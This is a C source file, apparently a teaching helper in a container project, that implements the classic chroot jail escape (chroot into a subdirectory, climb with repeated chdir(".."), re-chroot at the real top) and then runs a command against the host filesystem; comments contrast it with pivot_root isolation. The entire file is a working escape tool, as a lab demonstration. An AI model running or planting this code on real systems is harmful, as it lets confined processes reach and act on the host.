/*
 * chroot-escape.c: leave a chroot jail the classic way, then run a
 * command in whatever root lies outside it.
 *
 *     chroot-escape COMMAND [ARG...]
 *
 * Why this program exists
 * -----------------------
 * chroot(2) changes one thing: the directory a process calls "/". It
 * does not move the process's current directory, and it is not a
 * security boundary (the man page says so). A process that keeps
 * CAP_SYS_CHROOT can climb out:
 *
 *   1. make a directory D inside the jail;
 *   2. chroot(D), without chdir(D): "/" is now D, yet the current
 *      directory is still the jail's top, which lies outside D;
 *   3. chdir("..") again and again: ".." stops at a process's root only
 *      when the walk meets that root, and this walk never passes D, so
 *      it climbs through the jail's top to the real top of the mount
 *      tree (path_resolution(7), "Step 2: Walk along the path");
 *   4. chroot("."): the real top becomes "/" again;
 *   5. execvp(3) the command, which now sees the whole host.
 *
 * container.c's stage 4 uses pivot_root(2) instead and then detaches
 * the old root (umount2(2), MNT_DETACH). The climb in step 3 then ends
 * at the container's own top, because nothing is mounted above it in
 * the container's mount namespace, and the command runs inside the
 * container just the same. Run under chroot(8) and under container.c
 * and compare: that difference is the lesson.
 *
 * Leaving no litter: D is made by mkdtemp(3) with a unique name, and
 * removed once the climb is over. It cannot be removed earlier: rmdir(2)
 * fails with EBUSY on a directory that is the caller's root. After the
 * climb its path from the new "/" is unknown, so a descriptor for the
 * directory that holds D is opened first, and unlinkat(2) removes D
 * through it.
 *
 * Exit status: that of COMMAND; 125 when the escape itself fails, 126
 * when COMMAND cannot run, 127 when COMMAND is not found (the same
 * convention as env(1) and chroot(8)).
 *
 * Build: cc -static -O2 -Wall -Wextra -Werror \
 *            -o build/helpers/chroot-escape helpers/chroot-escape.c
 * Static, so it runs in a rootfs with no C library at all.
 */

#define _GNU_SOURCE
#include <errno.h>    /* errno, ENOENT */
#include <fcntl.h>    /* open(), O_DIRECTORY, O_CLOEXEC, AT_REMOVEDIR */
#include <stdio.h>    /* fprintf(), snprintf() */
#include <stdlib.h>   /* mkdtemp(), exit codes */
#include <string.h>   /* strerror(), strrchr() */
#include <sys/stat.h> /* stat(), to see when ".." stops moving */
#include <unistd.h>   /* chroot(), chdir(), execvp(), unlinkat() */

/* Exit codes for our own failures, as env(1) and chroot(8) use them. */
#define EXIT_SETUP_FAILED 125
#define EXIT_CANNOT_RUN 126
#define EXIT_NOT_FOUND 127

/*
 * Upper bound on the climb. Each step rises one directory and the climb
 * stops as soon as ".." leads nowhere new, so this only matters if the
 * kernel were to let ".." go on forever; deeper than any real jail.
 */
#define MAX_CLIMB_STEPS 4096

/*
 * Where D may be made, tried in order: the jail's top (usually writable
 * by root), then its /tmp (when the top is read-only). The names start
 * with a dot so that a plain "ls /" does not show a leftover.
 */
static const char *const parent_dirs[] = { "/", "/tmp/" };
#define TEMPLATE_NAME ".chroot-escape-XXXXXX"

/* The directory D and the one that holds it, for the final cleanup. */
struct jail_dir {
	int parent_fd;     /* open on D's parent, taken before chroot */
	char path[64];     /* D's absolute path inside the jail */
	const char *name;  /* D's last component, inside path */
};

/*
 * Print "chroot-escape: WHAT: <strerror>" with the current errno and
 * exit with STATUS. errno is read before anything can change it.
 */
static _Noreturn void die(int status, const char *what)
{
	int saved_errno = errno;

	fprintf(stderr, "chroot-escape: %s: %s\n", what,
		strerror(saved_errno));
	exit(status);
}

/*
 * die() for a failed chroot(2), with a hint for the usual cause: the
 * caller lacks CAP_SYS_CHROOT (capabilities(7)).
 */
static _Noreturn void die_chroot(const char *what)
{
	int saved_errno = errno;

	if (saved_errno == EPERM)
		fprintf(stderr, "chroot-escape: hint: chroot(2) needs "
			"CAP_SYS_CHROOT; run as root\n");
	errno = saved_errno;
	die(EXIT_SETUP_FAILED, what);
}

/*
 * Try to make D under one parent directory. Returns 0 with jail filled
 * in, or -1 with errno set and nothing left open or created.
 */
static int make_jail_dir_in(const char *parent, struct jail_dir *jail)
{
	/* O_CLOEXEC: COMMAND must not inherit a handle on the jail. */
	jail->parent_fd = open(parent, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (jail->parent_fd < 0)
		return -1;
	snprintf(jail->path, sizeof(jail->path), "%s%s", parent,
		 TEMPLATE_NAME);
	if (mkdtemp(jail->path) == NULL) {
		int saved_errno = errno;

		close(jail->parent_fd);
		errno = saved_errno;
		return -1;
	}
	jail->name = strrchr(jail->path, '/') + 1;
	return 0;
}

/*
 * Make D in the first parent directory that allows it. Dies (125) when
 * none does, reporting the error from the last one tried.
 */
static void make_jail_dir(struct jail_dir *jail)
{
	size_t i;

	for (i = 0; i < sizeof(parent_dirs) / sizeof(parent_dirs[0]); i++)
		if (make_jail_dir_in(parent_dirs[i], jail) == 0)
			return;
	die(EXIT_SETUP_FAILED, "mkdir " TEMPLATE_NAME);
}

/*
 * Remove D through the descriptor on its parent. Must run after the
 * climb, once D is no longer our root (else EBUSY). A failure is only
 * reported: the escape has worked, and COMMAND should still run.
 */
static void remove_jail_dir(struct jail_dir *jail)
{
	if (unlinkat(jail->parent_fd, jail->name, AT_REMOVEDIR) < 0)
		fprintf(stderr, "chroot-escape: warning: cannot remove %s "
			"(a path inside the jail): %s\n", jail->path,
			strerror(errno));
	close(jail->parent_fd);
}

/*
 * Succeed when two stat results name the same directory: same device
 * and same inode. Paths cannot tell, since every step is called "..".
 */
static int same_dir(const struct stat *a, const struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/*
 * Step 3: walk up with chdir("..") until the current directory stops
 * changing, which happens at the top of the mount tree: there ".." is
 * the directory itself. Runs after chroot(D); dies (125) on failure.
 */
static void climb_to_top(void)
{
	struct stat here, above;
	int step;

	if (stat(".", &here) < 0)
		die(EXIT_SETUP_FAILED, "stat .");
	for (step = 0; step < MAX_CLIMB_STEPS; step++) {
		if (chdir("..") < 0)
			die(EXIT_SETUP_FAILED, "chdir ..");
		if (stat(".", &above) < 0)
			die(EXIT_SETUP_FAILED, "stat ..");
		if (same_dir(&here, &above))
			return;
		here = above;
	}
}

/*
 * Steps 2 to 4. On return the process's root is the top of its mount
 * tree and its current directory is that root. Dies (125) on failure;
 * when the first chroot fails, D is removed first since it still can be.
 */
static void escape_jail(struct jail_dir *jail)
{
	/* Step 2: no chdir(D) here; the current directory must stay out. */
	if (chroot(jail->path) < 0) {
		int saved_errno = errno;

		unlinkat(jail->parent_fd, jail->name, AT_REMOVEDIR);
		errno = saved_errno;
		die_chroot("chroot");
	}
	climb_to_top();
	/* Step 4: chroot(2) with "." makes the current directory root. */
	if (chroot(".") < 0)
		die_chroot("chroot .");
	if (chdir("/") < 0)
		die(EXIT_SETUP_FAILED, "chdir /");
}

int main(int argc, char *argv[])
{
	struct jail_dir jail;

	if (argc < 2) {
		fprintf(stderr, "usage: chroot-escape COMMAND [ARG...]\n");
		return EXIT_SETUP_FAILED;
	}
	make_jail_dir(&jail);
	escape_jail(&jail);
	remove_jail_dir(&jail);

	/* Step 5: execvp(3) searches PATH, as a shell would. */
	execvp(argv[1], &argv[1]);
	die(errno == ENOENT ? EXIT_NOT_FOUND : EXIT_CANNOT_RUN, argv[1]);
}
